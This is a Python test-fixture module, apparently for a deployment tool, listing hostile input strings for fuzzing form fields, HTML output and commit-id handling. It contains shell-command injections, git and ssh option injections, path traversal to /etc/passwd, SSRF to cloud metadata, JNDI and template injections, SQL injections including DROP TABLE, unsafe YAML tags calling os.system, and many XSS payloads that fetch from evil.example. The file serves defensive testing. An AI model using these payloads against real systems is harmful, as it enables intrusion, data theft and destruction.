"""Texts from people who mean harm: for fields (RA12), as markup (RA21), as commit ids (RA13)."""
# ruff: noqa: E501 - one text after the other

from __future__ import annotations

from itertools import product
from typing import Final

MARKER: Final = "/tmp/deploynaut-attack-marker"
RUN: Final = f"touch {MARKER}"

_SHELL = (
    f"; {RUN}", f"| {RUN}", f"|| {RUN}", f"& {RUN}", f"&& {RUN} #", f"$({RUN})", f"`{RUN}`", f"\n{RUN}\n",
    f"\r\n{RUN}", f"\x00{RUN}", f"main\x00; {RUN}", f"'; {RUN}; '", f'"; {RUN}; "', f"') ; {RUN} ; ('",
    f"${{IFS}};{RUN.replace(' ', '${IFS}')}", f"<({RUN})", f">({RUN})", f"{{{RUN.replace(' ', ',')}}}",
    f"%0a{RUN}", f"%0d%0a{RUN}", f"%00{RUN}", f"\\n{RUN}", f"\u2028{RUN}", f"\u2029{RUN}", f"\x0b{RUN}", f"\x0c{RUN}",
    f"\x85{RUN}", f"'$({RUN})'", f'"$({RUN})"', f"$'\\n{RUN}'", f"\\`{RUN}\\`", f"!{RUN}", f"~/../..{MARKER}",
    f"a;{RUN};b", f"a\t;{RUN}", f"$((`{RUN}`))", f"${{x:=$({RUN})}}", f"*;{RUN}", f"?;{RUN}", f"[a-z];{RUN}",
)  # fmt: skip
_WRAPPED = tuple(
    f"{before}{inner}{after}"
    for inner in (f"$({RUN})", f"`{RUN}`", f";{RUN};")
    for before, after in (("main", ""), ("", "main"), ("'", "'"), ('"', '"'), ("\n", "\n"), ("a b ", ""), ("/sites/", ""), ("https://x/", ""), ("h.example", ""))
)  # fmt: skip
_OPTIONS = (
    "-x", "--help", "-oProxyCommand=" + RUN, "--upload-pack=" + RUN, "--output=" + MARKER, "--exec=" + RUN, "-", "--",
    "-c core.sshCommand=" + RUN, "--config=x", "-rf /", "--receive-pack=" + RUN, "-e" + RUN, "--rsh=" + RUN,
    "--post-file=/etc/passwd", "-F/dev/stdin",
)  # fmt: skip
_PATHS = (
    "..", "../", "../../etc/passwd", "....//....//etc/passwd", "..\\..\\windows", "/etc/passwd", "/", "//", "./.",
    "file:///etc/passwd", "ext::sh -c '" + RUN + "'", "fd::7", "~root", "~", "/proc/self/environ", "/dev/zero",
    "C:\\Windows", "\\\\evil\\share", "a/../../b", "%2e%2e%2f", "..%252f..%252f", "/sites/../etc", "/sites/a\x00b",
    ".git/config", "a/.git/hooks/post-checkout", "con", "nul", "http://169.254.169.254/latest/meta-data/",
    "http://[::1]:22/", "gopher://127.0.0.1:25/_HELO",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{{ settings.SECRET_KEY }}", "{% load log %}{% get_admin_log 1 as x %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}", "{{request.user.password}}", "{% include '/etc/passwd' %}", "%(secret)s", "{0.__class__}",
    "{self.__init__.__globals__}", "$commitsha", "${project}", "*{7*7}", "@{7*7}", "~{7*7}", "[[7*7]]", "{{=7*7}}",
    "<c-badge :look=\"''.__class__\" />",
)  # fmt: skip
_QUERIES = (
    "' OR '1'='1", "' OR 1=1--", "'; DROP TABLE accounts_user;--", '" OR ""="', "1; SELECT sleep(9)", "' UNION SELECT 1--",
    "\\'; --", "admin'--", "1' AND sqlite_version()--", "%' OR '%'='", "x') OR ('x'='x", "'||(SELECT 1)||'", "\u02bc OR 1=1",
)  # fmt: skip
_YAML = (
    "!!python/object/apply:os.system ['" + RUN + "']", "!!python/name:os.system", "!<tag:yaml.org,2002:python/tuple> [1]",
    "&a [*a]", "a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]", "? x", "<<: *y", "a: b: c", "- - - - -", "{{{{{{", "]", "%YAML 9.9",
    "--- a\n--- b", "steps: [{prepare: {timeout: 99999999999999999999d}}]", "steps: [!!binary aGk=]",
    "smoke_tests: {x: {url: 'file:///etc/passwd'}}", "smoke_tests: {x: {url: 'javascript:alert(1)'}}",
)  # fmt: skip
_LETTERS = (
    "\u202egnp.exe", "a\u200bb", "\ufeffmain", "ma\u0131n", "\u0430cme", "\U0001f4a9", "\ud800".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    "a" * 10_240, "\u0000", "\x1b[31mred", "\x1b]8;;http://evil.example\x07x", "\x1b]52;c;aGk=\x07", "\x07", "\x08" * 50, "\x7f",
    "e\u0301" * 200, "\u0301" * 500, "İ" * 100, "ﷺ" * 100, "\u2066x\u2069", "\r20:00:00 ended: succeeded", "x\r\ny", "\t", " ", "",
    "null", "undefined", "NaN", "true", "-1", "0", "1e400", "99999999999999999999", "0x41", "１２３", "٣",
)  # fmt: skip
_HEADERS = (
    "a\r\nSet-Cookie: deploynaut=evil", "a\nLocation: https://evil.example", "a%0d%0aX: y", "x\r\n\r\n<script>alert(1)</script>",
    "evil.example\r\nBcc: all@example.org", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "=HYPERLINK(\"http://evil.example\")",
)  # fmt: skip

FIELDS: Final[tuple[str, ...]] = tuple(
    dict.fromkeys(_SHELL + _WRAPPED + _OPTIONS + _PATHS + _TEMPLATES + _QUERIES + _YAML + _LETTERS + _HEADERS)
)

_ACTS = ("window.pwned=1", "fetch('http://evil.example/')", "alert(1)")
_MARKUP = (
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script src=http://evil.example/x.js></script>", "<script\n>{0}</script\n>",
    "<img src=x onerror={0}>", '<img src="x" onerror="{0}">', "<svg onload={0}>", "<svg/onload={0}>",
    "<body onload={0}>", "<iframe src=javascript:{0}>", "<iframe srcdoc='<script>{0}</script>'>", "<a href=javascript:{0}>x</a>",
    '" onmouseover="{0}', "' onmouseover='{0}", '"><script>{0}</script>', "'><script>{0}</script>", "</pre><script>{0}</script>",
    "</title><script>{0}</script>", "</textarea><script>{0}</script>", "</option></select><script>{0}</script>",
    "</code></td><script>{0}</script>", "--><script>{0}</script>", "]]><script>{0}</script>", "<!--<script>{0}//--></script>",
    "<details open ontoggle={0}>", "<input autofocus onfocus={0}>", "<video><source onerror={0}>", "<math><mi xlink:href=javascript:{0}>x",
    "<form action=javascript:{0}><button>x", "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<base href=http://evil.example/>",
    "<object data=javascript:{0}>", "<embed src=javascript:{0}>", "<style>@import 'http://evil.example/x';</style>",
    "<div style=background:url(javascript:{0})>", "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "javascript:{0}", "data:text/html,<script>{0}</script>", "\\u003cscript\\u003e{0}\\u003c/script\\u003e", "&lt;script&gt;{0}&lt;/script&gt;",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-", "%3Cscript%3E{0}%3C/script%3E", "<<script>{0}//<</script>", "<scr\x00ipt>{0}</scr\x00ipt>",
    "<x hx-get=http://evil.example/ hx-trigger=load>", "<x data-hx-on:load={0}>", "<c-badge :look='{0}' />", "{{{{ {0} }}}}", "{{% now '{0}' %}}",
)  # fmt: skip

MARKUP: Final[tuple[str, ...]] = tuple(dict.fromkeys(text.format(act) for act, text in product(_ACTS, _MARKUP)))[:150]
"""Texts that would act if a page forgot to escape them."""

COMMITS: Final[tuple[str, ...]] = (
    "abcdef1", "a" * 39, "a" * 41, "A" * 40, "g" * 40, "HEAD", "HEAD~1", "main", "-x", "--output=x", "..", "@", "@{-1}", "abc^{/x}",
    "a" * 40 + "\n", "\n" + "a" * 40, " " + "a" * 39, "a" * 39 + "\x00", "a" * 40 + "^", "a" * 40 + "..", "refs/heads/main", "0" * 40,
    "a" * 64, "０" * 40, "", " ", "a" * 10_240, "$(id)", "`id`", "';--", "<script>", "f" * 39 + "F", "٠" * 40, "deadbeef" * 5,
)  # fmt: skip
"""Texts where a full commit id belongs; none of them is the id of a commit there is."""
